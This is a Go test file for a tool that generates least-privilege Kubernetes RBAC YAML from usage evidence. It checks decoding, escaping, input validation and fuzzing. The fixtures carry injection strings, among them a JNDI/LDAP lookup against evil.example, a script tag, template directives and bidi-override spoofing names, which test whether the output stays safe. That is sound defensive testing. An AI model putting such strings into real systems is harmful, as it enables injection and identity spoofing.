package emit

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"go/parser"
	"go/token"
	"io"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	rbacv1 "k8s.io/api/rbac/v1"
	"k8s.io/apimachinery/pkg/api/validate/content"
	"k8s.io/apimachinery/pkg/runtime"
	utilyaml "k8s.io/apimachinery/pkg/util/yaml"
	"k8s.io/client-go/kubernetes/scheme"
	"sigs.k8s.io/yaml"

	"github.com/leastpriv/pare/synth"
	"github.com/leastpriv/pare/synth/k8s"
)

// k8sWindowFixture is the observation window of every test policy.
var k8sWindowFixture = synth.Window{
	From: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC),
	To:   time.Date(2026, 3, 31, 23, 59, 59, 0, time.UTC),
}

func k8sEv(action string, count int64, samples ...string) synth.ActionEvidence {
	return synth.ActionEvidence{
		Action:  action,
		Count:   count,
		First:   time.Date(2026, 1, 2, 3, 4, 5, 0, time.FixedZone("CET", 3600)),
		Last:    time.Date(2026, 3, 30, 12, 0, 0, 999, time.UTC),
		Regions: []string{"prod-eu"},
		Samples: samples,
	}
}

// k8sPolicyFixtures are hand-built policies: a service account with a
// namespaced Role, a user with two namespaces and a ClusterRole with
// non-resource URLs and resource names, and principals whose names and
// evidence carry what means something to YAML, JSON or Terraform.
func k8sPolicyFixtures() map[string]k8s.Policy {
	sa := k8s.Subject{Kind: "ServiceAccount", Namespace: "shop", Name: "cart"}
	alice := k8s.Subject{Kind: "User", Name: "alice@example.com"}
	hostile := "oidc:${jndi:ldap://evil.example/x} <script>alert(1)</script> \"q\" 'a' %{ if true }\nnext line: #x & *y !z"
	invisible := "mallory\u202etxt.exe \u200d zwj \x7f del \x01 ctl \ttab \u00a0nbsp\r"
	return map[string]k8s.Policy{
		"serviceaccount": {
			Principal: "system:serviceaccount:shop:cart",
			Subject:   sa,
			Roles: []k8s.Role{{
				Namespace: "shop",
				Name:      "pare:system:serviceaccount:shop:cart",
				Rules: []k8s.Rule{
					{Verbs: []string{"get"}, APIGroups: []string{""}, Resources: []string{"configmaps"}, ResourceNames: []string{"cart-config"},
						Evidence: []synth.ActionEvidence{k8sEv("get configmaps", 12, "k8s:0b0e3c7e-0000-4000-8000-000000000001")}},
					{Verbs: []string{"get", "list", "watch"}, APIGroups: []string{""}, Resources: []string{"pods"},
						Evidence: []synth.ActionEvidence{k8sEv("get pods", 3, "k8s:a"), k8sEv("list pods", 40, "k8s:b", "k8s:c"), k8sEv("watch pods", 2)}},
					{Verbs: []string{"create"}, APIGroups: []string{""}, Resources: []string{"pods/exec"},
						Evidence: []synth.ActionEvidence{{Action: "create pods/exec", Count: 1, Inferred: true, Denied: true}}},
				},
			}},
			Bindings: []k8s.Binding{{Namespace: "shop", Name: "pare:system:serviceaccount:shop:cart", RoleKind: "Role", RoleName: "pare:system:serviceaccount:shop:cart", Subject: sa}},
		},
		"user": {
			Principal: "alice@example.com",
			Subject:   alice,
			Roles: []k8s.Role{
				{Namespace: "dev", Name: "pare:alice@example.com", Rules: []k8s.Rule{
					{Verbs: []string{"get", "patch"}, APIGroups: []string{"apps"}, Resources: []string{"deployments", "deployments/scale"},
						Evidence: []synth.ActionEvidence{k8sEv("get deployments.apps", 5, "k8s:d1"), k8sEv("patch deployments.apps/scale", 1, "k8s:d2")}},
				}},
				{Namespace: "staging", Name: "pare:alice@example.com", Rules: []k8s.Rule{
					{Verbs: []string{"delete"}, APIGroups: []string{""}, Resources: []string{"pods"}, ResourceNames: []string{"web-0", "web-1"},
						Evidence: []synth.ActionEvidence{k8sEv("delete pods", 2, "k8s:s1")}},
				}},
				{Name: "pare:alice@example.com", Rules: []k8s.Rule{
					{Verbs: []string{"get"}, APIGroups: []string{""}, Resources: []string{"nodes", "nodes/proxy"}, ResourceNames: []string{"node-1"},
						Evidence: []synth.ActionEvidence{k8sEv("get nodes", 7, "k8s:n1"), k8sEv("get nodes/proxy", 1, "k8s:n2")}},
					{Verbs: []string{"list"}, APIGroups: []string{"apps"}, Resources: []string{"deployments"},
						Evidence: []synth.ActionEvidence{k8sEv("list deployments.apps", 9, "k8s:l1")}},
					{Verbs: []string{"get"}, NonResourceURLs: []string{"/healthz", "/metrics"},
						Evidence: []synth.ActionEvidence{k8sEv("get /healthz", 100, "k8s:h1"), k8sEv("get /metrics", 4, "k8s:m1")}},
				}},
			},
			Bindings: []k8s.Binding{
				{Namespace: "dev", Name: "pare:alice@example.com", RoleKind: "Role", RoleName: "pare:alice@example.com", Subject: alice},
				{Namespace: "staging", Name: "pare:alice@example.com", RoleKind: "Role", RoleName: "pare:alice@example.com", Subject: alice},
				{Name: "pare:alice@example.com", RoleKind: "ClusterRole", RoleName: "pare:alice@example.com", Subject: alice},
			},
			AlreadyGranted: []synth.Access{
				{Provider: "k8s", Principal: "alice@example.com", PrincipalKind: "user", Action: "get /api", Count: 30,
					First: time.Date(2026, 1, 1, 8, 0, 0, 0, time.UTC), Last: time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC), Regions: []string{"prod-eu"}, Samples: []string{"k8s:api1"}},
				{Provider: "k8s", Principal: "alice@example.com", PrincipalKind: "user", Action: "create selfsubjectaccessreviews.authorization.k8s.io", Count: 2, Samples: []string{"k8s:ssar"}},
				{Provider: "k8s", Principal: "alice@example.com", PrincipalKind: "user", Action: "get pods", Resource: "dev/web-0", Count: 1},
				{Provider: "k8s", Principal: "alice@example.com", PrincipalKind: "user", Action: "get pods", Resource: "dev/web-1", Count: 2},
			},
			Generalizations: []k8s.Generalization{
				{Reason: "used in more than 3 namespaces", Actions: []string{"list deployments.apps"}, Detail: "dev, prod, qa, staging"},
			},
		},
		"hostile": {
			Principal: hostile,
			Subject:   k8s.Subject{Kind: "User", Name: hostile},
			Roles: []k8s.Role{{
				Namespace: "default",
				Name:      k8s.RoleName(hostile),
				Rules: []k8s.Rule{
					{Verbs: []string{"get"}, APIGroups: []string{"${jndi}.example.com"}, Resources: []string{"widgets\"x"}, ResourceNames: []string{"${jndi:ldap://evil/x}", "<script>", "a\"b'c", "line\nbreak", "%{ for x in y }", "ünïcödé 日本語 😀"},
						Evidence: []synth.ActionEvidence{k8sEv("get widgets\"x.${jndi}.example.com", 1, "k8s:${x}", "k8s:<script>", "k8s:\"q\"\n")}},
				},
			}},
			Bindings: []k8s.Binding{{Namespace: "default", Name: k8s.RoleName(hostile), RoleKind: "Role", RoleName: k8s.RoleName(hostile), Subject: k8s.Subject{Kind: "User", Name: hostile}}},
			Generalizations: []k8s.Generalization{
				{Reason: "more than 20 names", Actions: []string{"get widgets\"x.${jndi}.example.com"}, Detail: "<script>, ${x}"},
			},
		},
		"invisible": {
			Principal: invisible,
			Subject:   k8s.Subject{Kind: "User", Name: invisible},
			Roles: []k8s.Role{{
				Name: k8s.RoleName(invisible),
				Rules: []k8s.Rule{
					{Verbs: []string{"get"}, NonResourceURLs: []string{"/x\u202e\u200d"},
						Evidence: []synth.ActionEvidence{k8sEv("get /x\u202e\u200d", 1, "k8s:\u202eeid\x1b[31m")}},
				},
			}},
			Bindings: []k8s.Binding{{Name: k8s.RoleName(invisible), RoleKind: "ClusterRole", RoleName: k8s.RoleName(invisible), Subject: k8s.Subject{Kind: "User", Name: invisible}}},
		},
	}
}

// decodeK8sYAML splits a YAML stream into documents and decodes each with
// client-go's scheme, as kubectl does, and strictly with sigs.k8s.io/yaml
// into the same type, so unknown or duplicate fields fail too.
func decodeK8sYAML(t testing.TB, data []byte) []any {
	t.Helper()
	r := utilyaml.NewYAMLReader(bufio.NewReader(bytes.NewReader(data)))
	var out []any
	for {
		doc, err := r.Read()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("reading a YAML document: %v\n%s", err, data)
		}
		if len(bytes.TrimSpace(doc)) == 0 || string(bytes.TrimSpace(doc)) == "---" {
			continue
		}
		obj, gvk, err := scheme.Codecs.UniversalDeserializer().Decode(doc, nil, nil)
		if err != nil {
			t.Fatalf("client-go cannot decode\n%s\n%v", doc, err)
		}
		if gvk.Group != "rbac.authorization.k8s.io" || gvk.Version != "v1" {
			t.Fatalf("decoded %v, want rbac.authorization.k8s.io/v1", gvk)
		}
		strict := reflect.New(reflect.TypeOf(obj).Elem()).Interface()
		if err := yaml.UnmarshalStrict(doc, strict); err != nil {
			t.Fatalf("strict decoding of\n%s\n%v", doc, err)
		}
		if !reflect.DeepEqual(strict, obj) {
			t.Fatalf("client-go and strict decoding differ:\n%#v\n%#v", obj, strict)
		}
		out = append(out, obj)
	}

	// kubectl apply -f reads the stream with a YAML-or-JSON decoder, which
	// turns each document into JSON, and decodes that.
	dec := utilyaml.NewYAMLOrJSONDecoder(bytes.NewReader(data), 4096)
	for i := 0; ; i++ {
		var ext runtime.RawExtension
		err := dec.Decode(&ext)
		if errors.Is(err, io.EOF) {
			if i != len(out) {
				t.Fatalf("kubectl's reader sees %d objects, the document reader %d", i, len(out))
			}
			break
		}
		if err != nil {
			t.Fatalf("kubectl's reader, object %d: %v", i+1, err)
		}
		if len(ext.Raw) == 0 || string(ext.Raw) == "null" {
			i--
			continue
		}
		obj, _, err := scheme.Codecs.UniversalDeserializer().Decode(ext.Raw, nil, nil)
		if err != nil {
			t.Fatalf("kubectl's reader, object %d: %v\n%s", i+1, err, ext.Raw)
		}
		if i >= len(out) || !reflect.DeepEqual(obj, out[i]) {
			t.Fatalf("kubectl's reader, object %d = %#v", i+1, obj)
		}
	}
	return out
}

// wantK8sObjects is what K8sRBACYAML must write for p, in order, built
// straight from the model; annotations are checked separately.
func wantK8sObjects(p k8s.Policy) []any {
	var out []any
	for _, r := range p.Roles {
		var rules []rbacv1.PolicyRule
		for _, rule := range r.Rules {
			rules = append(rules, rbacv1.PolicyRule{Verbs: rule.Verbs, APIGroups: rule.APIGroups, Resources: rule.Resources, ResourceNames: rule.ResourceNames, NonResourceURLs: rule.NonResourceURLs})
		}
		if r.Namespace == "" {
			out = append(out, &rbacv1.ClusterRole{Rules: rules})
		} else {
			out = append(out, &rbacv1.Role{Rules: rules})
		}
		setK8sMeta(out[len(out)-1], r.Namespace, r.Name)
		for _, b := range p.Bindings {
			if b.RoleName != r.Name || (b.RoleKind == "Role") != (r.Namespace != "") || (r.Namespace != "" && b.Namespace != r.Namespace) {
				continue
			}
			apiGroup := "rbac.authorization.k8s.io"
			if b.Subject.Kind == "ServiceAccount" {
				apiGroup = ""
			}
			subjects := []rbacv1.Subject{{Kind: b.Subject.Kind, APIGroup: apiGroup, Name: b.Subject.Name, Namespace: b.Subject.Namespace}}
			ref := rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: b.RoleKind, Name: b.RoleName}
			if b.Namespace == "" {
				out = append(out, &rbacv1.ClusterRoleBinding{Subjects: subjects, RoleRef: ref})
			} else {
				out = append(out, &rbacv1.RoleBinding{Subjects: subjects, RoleRef: ref})
			}
			setK8sMeta(out[len(out)-1], b.Namespace, b.Name)
		}
	}
	return out
}

func setK8sMeta(obj any, namespace, name string) {
	v := reflect.ValueOf(obj).Elem()
	kind := v.Type().Name()
	v.FieldByName("TypeMeta").Set(reflect.ValueOf(k8sRBACType(kind)))
	meta := v.FieldByName("ObjectMeta")
	meta.FieldByName("Name").SetString(name)
	meta.FieldByName("Namespace").SetString(namespace)
}

// checkK8sYAML decodes out and checks it holds exactly p's objects, with
// pare's labels and annotations, and each role's evidence.
func checkK8sYAML(t testing.TB, out []byte, p k8s.Policy, window synth.Window) {
	t.Helper()
	got := decodeK8sYAML(t, out)
	want := wantK8sObjects(p)
	if len(got) != len(want) {
		t.Fatalf("%d objects, want %d:\n%s", len(got), len(want), out)
	}
	role := 0
	for i := range got {
		meta := reflect.ValueOf(got[i]).Elem().FieldByName("ObjectMeta")
		labels := meta.FieldByName("Labels").Interface().(map[string]string)
		annotations := meta.FieldByName("Annotations").Interface().(map[string]string)
		if !reflect.DeepEqual(labels, map[string]string{"app.kubernetes.io/managed-by": "pare"}) {
			t.Errorf("object %d labels = %v", i, labels)
		}
		if annotations["pare.dev/principal"] != p.Principal {
			t.Errorf("object %d principal annotation = %q, want %q", i, annotations["pare.dev/principal"], p.Principal)
		}
		if annotations["pare.dev/window"] != k8sWindow(window) {
			t.Errorf("object %d window annotation = %q", i, annotations["pare.dev/window"])
		}
		ev, isRole := annotations["pare.dev/evidence"]
		switch got[i].(type) {
		case *rbacv1.Role, *rbacv1.ClusterRole:
			if !isRole || len(annotations) != 3 {
				t.Fatalf("role %d annotations = %v", i, annotations)
			}
			checkK8sEvidenceAnnotation(t, ev, p.Roles[role])
			role++
		default:
			if len(annotations) != 2 {
				t.Errorf("binding %d annotations = %v", i, annotations)
			}
		}
		// The rest must equal the model exactly.
		meta.FieldByName("Labels").Set(reflect.Zero(reflect.TypeOf(labels)))
		meta.FieldByName("Annotations").Set(reflect.Zero(reflect.TypeOf(annotations)))
		if !reflect.DeepEqual(got[i], want[i]) {
			t.Errorf("object %d does not round-trip:\ngot  %#v\nwant %#v", i, got[i], want[i])
		}
	}
}

// checkK8sEvidenceAnnotation parses a role's evidence annotation and checks
// it against the role's rules.
func checkK8sEvidenceAnnotation(t testing.TB, value string, r k8s.Role) {
	t.Helper()
	var got []k8sRuleEvidence
	dec := json.NewDecoder(strings.NewReader(value))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&got); err != nil {
		t.Fatalf("evidence annotation %q: %v", value, err)
	}
	if strings.Contains(value, "\n") || !allVisible([]byte(value), true) {
		t.Errorf("evidence annotation is not compact, visible JSON: %q", value)
	}
	if len(got) != len(r.Rules) {
		t.Fatalf("evidence for %d rules, want %d", len(got), len(r.Rules))
	}
	for i, rule := range r.Rules {
		if got[i].Rule != i || len(got[i].Actions) != len(rule.Evidence) {
			t.Fatalf("rule %d evidence = %+v", i, got[i])
		}
		for j, ev := range rule.Evidence {
			want := k8sActionEvidence{Action: ev.Action, Count: ev.Count, First: rfc3339(ev.First, ""), Last: rfc3339(ev.Last, ""), Samples: ev.Samples, Inferred: ev.Inferred, Denied: ev.Denied}
			if !reflect.DeepEqual(got[i].Actions[j], want) {
				t.Errorf("rule %d action %d evidence = %+v, want %+v", i, j, got[i].Actions[j], want)
			}
		}
	}
}

func TestK8sRBACYAMLGolden(t *testing.T) {
	for name, p := range k8sPolicyFixtures() {
		t.Run(name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := K8sRBACYAML(&buf, p, k8sWindowFixture); err != nil {
				t.Fatal(err)
			}
			golden(t, "k8s/rbac/"+name+".yaml", buf.Bytes())
			checkK8sYAML(t, buf.Bytes(), p, k8sWindowFixture)
			if !allVisible(buf.Bytes(), true) {
				t.Errorf("output shows invisible runes:\n%q", buf.String())
			}
			var again bytes.Buffer
			if err := K8sRBACYAML(&again, p, k8sWindowFixture); err != nil || !bytes.Equal(buf.Bytes(), again.Bytes()) {
				t.Errorf("output is not deterministic (%v)", err)
			}
		})
	}
}

// TestK8sRBACYAMLStyle: printable hostile strings stay plain YAML values;
// with invisible runes every string value is double-quoted, those runes
// escaped.
func TestK8sRBACYAMLStyle(t *testing.T) {
	fx := k8sPolicyFixtures()
	var plain, escaped bytes.Buffer
	if err := K8sRBACYAML(&plain, fx["hostile"], k8sWindowFixture); err != nil {
		t.Fatal(err)
	}
	if err := K8sRBACYAML(&escaped, fx["invisible"], synth.Window{}); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(plain.String(), "---\napiVersion: rbac.authorization.k8s.io/v1\n") {
		t.Errorf("hostile but visible strings are not written as plain YAML:\n%s", plain.String())
	}
	for _, want := range []string{
		"---\napiVersion: \"rbac.authorization.k8s.io/v1\"\nkind: \"ClusterRole\"\n",
		`  name: "pare:mallory\u202etxt.exe \u200d zwj \x7F del \x01 ctl \ttab \u00a0nbsp\r"`,
		`    pare.dev/window: "../.."`,
		"\nrules:\n- nonResourceURLs:\n  - \"/x\\u202e\\u200d\"\n",
	} {
		if !strings.Contains(escaped.String(), want) {
			t.Errorf("output does not contain %q:\n%s", want, escaped.String())
		}
	}
	checkK8sYAML(t, escaped.Bytes(), fx["invisible"], synth.Window{})
}

// TestK8sRBACYAMLLiteral: every string a log can reach, in every place it
// can reach, decodes back exactly.
func TestK8sRBACYAMLLiteral(t *testing.T) {
	for _, s := range append(hostile, "${x}", "%{", "---", "...", "- a", "a: b", "#c", "&a", "*a", "!tag", "|", ">", "'", `"`, "\\", "yes", "no", "on", "~", "null", "1e3", "0x1f", "", " lead", "trail ", "\n", "\r\n", "\u0085", "\u2028", "\ufeff", "\x00") {
		subject := k8s.Subject{Kind: "User", Name: "u" + s}
		p := k8s.Policy{
			Principal: "u" + s,
			Subject:   subject,
			Roles: []k8s.Role{{Namespace: "ns", Name: k8s.RoleName(s), Rules: []k8s.Rule{
				{Verbs: []string{"v" + s}, APIGroups: []string{s}, Resources: []string{"r" + s}, ResourceNames: []string{s},
					Evidence: []synth.ActionEvidence{{Action: "a" + s, Count: 1, Samples: []string{s}}}},
			}}},
		}
		p.Bindings = []k8s.Binding{{Namespace: "ns", Name: p.Roles[0].Name, RoleKind: "Role", RoleName: p.Roles[0].Name, Subject: subject}}
		var buf bytes.Buffer
		if err := K8sRBACYAML(&buf, p, k8sWindowFixture); err != nil {
			t.Fatalf("%q: %v", s, err)
		}
		checkK8sYAML(t, buf.Bytes(), p, k8sWindowFixture)
		if !allVisible(buf.Bytes(), true) {
			t.Errorf("%q: output shows invisible runes:\n%q", s, buf.String())
		}
	}
}

// badK8sPolicies are policies the API server would refuse, or whose
// strings no renderer may carry.
func badK8sPolicies() map[string]k8s.Policy {
	ok := func() k8s.Policy { return k8sPolicyFixtures()["user"] }
	bad := map[string]k8s.Policy{}
	edit := func(name string, f func(p *k8s.Policy)) {
		p := ok()
		// Deep enough copies for the edits below.
		p.Roles = append([]k8s.Role(nil), p.Roles...)
		for i := range p.Roles {
			p.Roles[i].Rules = append([]k8s.Rule(nil), p.Roles[i].Rules...)
		}
		p.Bindings = append([]k8s.Binding(nil), p.Bindings...)
		f(&p)
		bad[name] = p
	}
	edit("invalid UTF-8 principal", func(p *k8s.Policy) { p.Principal = "alice\xff" })
	edit("invalid UTF-8 resource name", func(p *k8s.Policy) { p.Roles[1].Rules[0].ResourceNames = []string{"a\xc3"} })
	edit("invalid UTF-8 sample", func(p *k8s.Policy) {
		p.Roles[0].Rules[0].Evidence = []synth.ActionEvidence{{Action: "get", Samples: []string{"\xed\xa0\x80"}}}
	})
	edit("invalid UTF-8 subject", func(p *k8s.Policy) { p.Bindings[2].Subject.Name = "\x80" })
	edit("namespace not a DNS label", func(p *k8s.Policy) { p.Roles[0].Namespace = "Dev_1" })
	edit("role name with slash", func(p *k8s.Policy) { p.Roles[0].Name = "pare:a/b" })
	edit("role name dot-dot", func(p *k8s.Policy) { p.Roles[0].Name = ".." })
	edit("empty role name", func(p *k8s.Policy) { p.Roles[0].Name = "" })
	edit("duplicate role", func(p *k8s.Policy) { p.Roles[1].Namespace = "dev" })
	edit("duplicate binding", func(p *k8s.Policy) { p.Bindings[1].Namespace = "dev" })
	edit("role without rules", func(p *k8s.Policy) { p.Roles[0].Rules = nil })
	edit("rule without verbs", func(p *k8s.Policy) { p.Roles[0].Rules[0].Verbs = nil })
	edit("rule without API groups", func(p *k8s.Policy) { p.Roles[0].Rules[0].APIGroups = nil })
	edit("rule without resources", func(p *k8s.Policy) { p.Roles[0].Rules[0].Resources = nil })
	edit("non-resource URL in a Role", func(p *k8s.Policy) {
		p.Roles[0].Rules[0] = k8s.Rule{Verbs: []string{"get"}, NonResourceURLs: []string{"/healthz"}}
	})
	edit("mixed rule", func(p *k8s.Policy) { p.Roles[2].Rules[2].Resources = []string{"pods"} })
	edit("resource names on non-resource rule", func(p *k8s.Policy) { p.Roles[2].Rules[2].ResourceNames = []string{"x"} })
	edit("unknown role kind", func(p *k8s.Policy) { p.Bindings[0].RoleKind = "Roles" })
	edit("cluster binding of a Role", func(p *k8s.Policy) { p.Bindings[2].RoleKind = "Role" })
	edit("bad role ref name", func(p *k8s.Policy) { p.Bindings[0].RoleName = "a%b" })
	edit("unknown subject kind", func(p *k8s.Policy) { p.Bindings[0].Subject.Kind = "user" })
	edit("user subject with namespace", func(p *k8s.Policy) { p.Bindings[0].Subject.Namespace = "dev" })
	edit("service account without namespace", func(p *k8s.Policy) {
		p.Bindings[0].Subject = k8s.Subject{Kind: "ServiceAccount", Name: "x"}
	})
	edit("service account bad name", func(p *k8s.Policy) {
		p.Bindings[0].Subject = k8s.Subject{Kind: "ServiceAccount", Namespace: "dev", Name: "X Y"}
	})
	edit("subject without name", func(p *k8s.Policy) { p.Bindings[0].Subject.Name = "" })
	return bad
}

func TestK8sRBACYAMLRejects(t *testing.T) {
	for name, p := range badK8sPolicies() {
		var buf bytes.Buffer
		err := K8sRBACYAML(&buf, p, k8sWindowFixture)
		if err == nil || buf.Len() != 0 {
			t.Errorf("%s: err %v, wrote %q", name, err, buf.String())
		}
	}
}

func TestK8sRBACYAMLEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := K8sRBACYAML(&buf, k8s.Policy{Principal: "p"}, synth.Window{}); err != nil || buf.Len() != 0 {
		t.Errorf("empty policy: err %v, wrote %q", err, buf.String())
	}
}

// TestK8sRBACYAMLOutsideBinding: a binding of a role the policy does not
// hold comes after every role, and still round-trips.
func TestK8sRBACYAMLOutsideBinding(t *testing.T) {
	p := k8sPolicyFixtures()["serviceaccount"]
	p.Bindings = append([]k8s.Binding{{Namespace: "other", Name: "pare:view", RoleKind: "ClusterRole", RoleName: "view", Subject: p.Subject}}, p.Bindings...)
	var buf bytes.Buffer
	if err := K8sRBACYAML(&buf, p, k8sWindowFixture); err != nil {
		t.Fatal(err)
	}
	got := decodeK8sYAML(t, buf.Bytes())
	if len(got) != 3 {
		t.Fatalf("%d objects, want 3", len(got))
	}
	last, ok := got[2].(*rbacv1.RoleBinding)
	if !ok || last.Namespace != "other" || last.RoleRef.Kind != "ClusterRole" || last.RoleRef.Name != "view" {
		t.Errorf("last object = %#v, want the RoleBinding of ClusterRole view", got[2])
	}
	if _, ok := got[1].(*rbacv1.RoleBinding); !ok {
		t.Errorf("the role's own binding does not follow it: %#v", got[1])
	}
}

// TestK8sEvidenceAnnotationBudget: evidence too large for an annotation
// first loses its samples, then its action names, and stays within budget.
func TestK8sEvidenceAnnotationBudget(t *testing.T) {
	var evs []synth.ActionEvidence
	for i := 0; i < 400; i++ {
		evs = append(evs, k8sEv("get pods"+strings.Repeat("x", i%50), int64(i), "k8s:0b0e3c7e-0000-4000-8000-000000000001", "k8s:0b0e3c7e-0000-4000-8000-000000000002", "k8s:0b0e3c7e-0000-4000-8000-000000000003"))
	}
	r := k8s.Role{Name: "r", Rules: []k8s.Rule{{Verbs: []string{"get"}, APIGroups: []string{""}, Resources: []string{"pods"}, Evidence: evs}}}
	v, err := k8sEvidenceAnnotationValue(r)
	if err != nil {
		t.Fatal(err)
	}
	if len(v) > k8sEvidenceBudget || strings.Contains(v, "samples") || !strings.Contains(v, `"count":399`) {
		t.Errorf("400 actions: %d bytes, samples kept: %v", len(v), strings.Contains(v, "samples"))
	}
	for i := 0; i < 2000; i++ {
		evs = append(evs, k8sEv(strings.Repeat("y", 100), 1))
	}
	r.Rules[0].Evidence = evs
	if v, err = k8sEvidenceAnnotationValue(r); err != nil {
		t.Fatal(err)
	}
	if v != `[{"rule":0,"omitted":2400}]` {
		t.Errorf("2400 actions: %q", v)
	}
}

// FuzzK8sYAMLRoundTrip: arbitrary principals, role names, resource names
// and evidence samples either decode back exactly, with every rune of the
// output visible, or, when they are not valid UTF-8 or not a valid RBAC
// name, are an error and nothing is written.
func FuzzK8sYAMLRoundTrip(f *testing.F) {
	for _, s := range []string{"${jndi:ldap://x}", "%{ if }", "\\", `"`, "\n", "a \nb ", "'", "<script>", "ünï 日本 😀", "\xff", "\u202e", "\u0085", "\u00a0", "\x00", "\x7f", "\t", "\r\n", "- x", ": y", "#", "/", "%", "..", ""} {
		f.Add(s, s, s, s)
	}
	f.Add("alice@example.com", "pare:alice@example.com", "web-0", "k8s:0b0e3c7e")
	f.Fuzz(func(t *testing.T, principal, roleName, name, sample string) {
		subject := k8s.Subject{Kind: "User", Name: principal}
		p := k8s.Policy{
			Principal: principal,
			Subject:   subject,
			Roles: []k8s.Role{
				{Namespace: "ns", Name: roleName, Rules: []k8s.Rule{{Verbs: []string{"get"}, APIGroups: []string{"", name}, Resources: []string{"pods"}, ResourceNames: []string{name},
					Evidence: []synth.ActionEvidence{{Action: "get pods", Count: 1, Samples: []string{sample}}}}}},
				{Name: roleName, Rules: []k8s.Rule{{Verbs: []string{"get", name}, NonResourceURLs: []string{"/" + name},
					Evidence: []synth.ActionEvidence{{Action: "get /" + name, Count: 2, Samples: []string{sample, sample + "2"}}}}}},
			},
			Bindings: []k8s.Binding{
				{Namespace: "ns", Name: roleName, RoleKind: "Role", RoleName: roleName, Subject: subject},
				{Name: roleName, RoleKind: "ClusterRole", RoleName: roleName, Subject: subject},
			},
		}
		var buf bytes.Buffer
		err := K8sRBACYAML(&buf, p, k8sWindowFixture)
		valid := roleName != "" && len(content.IsPathSegmentName(roleName)) == 0 && principal != ""
		for _, s := range []string{principal, roleName, name, sample} {
			valid = valid && utf8.ValidString(s)
		}
		if !valid {
			if err == nil || buf.Len() != 0 {
				t.Fatalf("K8sRBACYAML(%q, %q, %q, %q) = %v, wrote %d bytes; want an error and nothing", principal, roleName, name, sample, err, buf.Len())
			}
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		checkK8sYAML(t, buf.Bytes(), p, k8sWindowFixture)
		if !allVisible(buf.Bytes(), true) {
			t.Fatalf("output shows invisible runes:\n%q", buf.String())
		}
	})
}

// TestK8sRBACImportsNoClientGo: client-go stays a test-only import of emit
// (it belongs in usage/k8s/cluster and slows every cold build).
func TestK8sRBACImportsNoClientGo(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	checked := 0
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(token.NewFileSet(), name, nil, parser.ImportsOnly)
		if err != nil {
			t.Fatal(err)
		}
		checked++
		for _, imp := range f.Imports {
			if strings.HasPrefix(strings.Trim(imp.Path.Value, `"`), "k8s.io/client-go") {
				t.Errorf("%s imports %s", name, imp.Path.Value)
			}
		}
	}
	if checked == 0 {
		t.Fatal("no source files checked")
	}
}
